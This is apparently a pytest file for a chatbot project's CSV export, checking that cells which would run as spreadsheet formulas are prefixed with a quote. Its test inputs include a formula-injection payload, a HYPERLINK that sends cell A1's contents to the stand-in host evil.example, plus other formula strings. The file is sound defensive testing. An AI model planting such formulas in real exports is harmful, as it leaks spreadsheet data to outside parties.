"""CSV exports open safely in a spreadsheet: a text cell that would run as a formula gets a
leading quote (OWASP), in `partnerbot export --format csv` and the store's CSV export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.exports import csv_cell, csv_dict_writer, csv_writer
from bot.store import SessionLog

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
FORMULAS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "", " =not first", "1+1", "a=b", "'quoted", "é=",
                                   -1, 2.5, None, 0])
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) is value


def test_the_writers_neutralise_every_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["note", "value"])
    writer.writerows([[EVIL, -1], ["fine", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["note", "value"], ["'" + EVIL, "-1"], ["fine", "3"]]
    out = io.StringIO()
    dict_writer = csv_dict_writer(out, ["run_id", "note"])
    dict_writer.writeheader()
    dict_writer.writerows([{"run_id": 1, "note": "@cmd"}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"run_id": "1",
                                                                   "note": "'@cmd"}]


def test_the_session_log_exports_formulas_as_text(tmp_path: Path) -> None:
    data = tmp_path / "var"
    with SessionLog(data / "partnerbot.db") as log:
        for text in FORMULAS:
            log.log_incoming(user_id=5, chat_id=5, chat_type="private", kind="text", text=text)
        run = log.create_run(user_id=5, chat_id=5, checklist_id="c", version="1", snapshot={},
                             state={}, training=True, cohort="geneva-2026")
        log.log_run_answer(run, question_id="q1", value="yes", note=EVIL, skipped=False,
                           at="2026-03-01T09:00:00")
        answer = log.log_answer(message_id=1, user_id=5, chat_id=5, question="q", query="q",
                                answer="a", grounded=True, index_version="v", passages=[],
                                top_score=0.5)
        log.log_feedback(answer_id=answer, user_id=5, value=-1, comment="-bad")
        one = io.StringIO()
        log.export(one, fmt="csv", tables=["messages"])
    texts = [row["text"] for row in csv.DictReader(io.StringIO(one.getvalue()))]
    assert texts == ["'" + t for t in FORMULAS]

    env = {"PARTNERBOT_DATA_DIR": str(data), "PARTNERBOT_KNOWLEDGE_DIR": str(tmp_path / "kn")}
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--output",
                                      str(tmp_path / "out")], env=env)
    assert result.exit_code == 0, result.output

    def table(name: str) -> list[dict[str, str]]:
        with open(tmp_path / "out" / f"{name}.csv", encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))

    assert [r["note"] for r in table("run_answers")] == ["'" + EVIL]
    assert [r["text"] for r in table("messages")] == ["'" + t for t in FORMULAS]
    assert [(r["value"], r["comment"]) for r in table("feedback")] == [("-1", "'-bad")]
    for path in (tmp_path / "out").iterdir():
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row), (path, row)
